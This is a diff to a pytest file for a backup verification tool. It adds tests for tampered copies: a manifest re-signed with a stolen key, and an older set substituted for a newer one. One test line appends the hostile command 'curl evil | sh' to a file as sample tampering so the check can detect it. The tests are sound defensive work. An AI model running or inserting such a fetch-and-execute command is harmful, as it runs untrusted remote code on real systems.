@@ -1,11 +1,12 @@
 """Checking copies again: stored, intact, proven; and every damage by name."""
 
 import os
+import shutil
 
 import pyrage
 import pytest
 
-from backups import proof, verify
+from backups import proof, publish, verify
 from backups.destinations.local import MARKER
 from backups.destinations.local import Plugin as Local
 from backups.models import Copy, Destination, Level, Set, Verification
@@ -139,7 +140,34 @@ class TestDamage:
         old = hashlib.sha256(path.read_bytes()).hexdigest()
         path.write_text(path.read_text() + "curl evil | sh\n")
         sums.write_text(sums.read_text().replace(old, hashlib.sha256(path.read_bytes()).hexdigest()))
+        self.damaged(copy, "intact", "checksums.txt is not the one that was published", key.identity)
+        # Of a set that was made before rows knew that digest.
+        Set.objects.update(checksums_sha256="")
         self.damaged(copy, "intact", "checksums.txt.sig", key.identity)
+
+    def test_a_manifest_that_somebody_signed_with_our_key(self, copy, key) -> None:
+        """The key was stolen: the signature is good, and what was published is known."""
+        import hashlib
+
+        path, sums = path_of(copy, "manifest.json"), path_of(copy, "checksums.txt")
+        old = hashlib.sha256(path.read_bytes()).hexdigest()
+        path.write_text(path.read_text().replace('"capped": false', '"capped": true'))
+        sums.write_text(sums.read_text().replace(old, hashlib.sha256(path.read_bytes()).hexdigest()))
+        path_of(copy, "checksums.txt.sig").write_bytes(publish.signing_key().sign(sums.read_bytes()))
+        self.damaged(copy, "intact", "checksums.txt is not the one that was published", key.identity)
+
+    @pytest.mark.parametrize("known", [True, False])
+    def test_an_older_set_in_its_place(self, plan, key, known) -> None:
+        """All files are ours, signed, and fit each other: they are those of the set before."""
+        older, copy = good(plan).copies.get(), good(plan).copies.get()
+        folder = path_of(copy, "manifest.json").parent
+        shutil.rmtree(folder)
+        shutil.copytree(path_of(older, "manifest.json").parent, folder)
+        Set.objects.update(details_size=None)  # By chance they may be of one size.
+        if not known:  # As after a rebuild by an older version: only the manifest tells.
+            Set.objects.update(checksums_sha256="", details_sha256="")
+        said = "checksums.txt is not the one that was published" if known else "that of another set"
+        self.damaged(copy, "intact", said, key.identity)
 
     def test_without_encryption_too(self, plan, key) -> None:
         plan.encrypt, plan.level = False, Level.INTACT
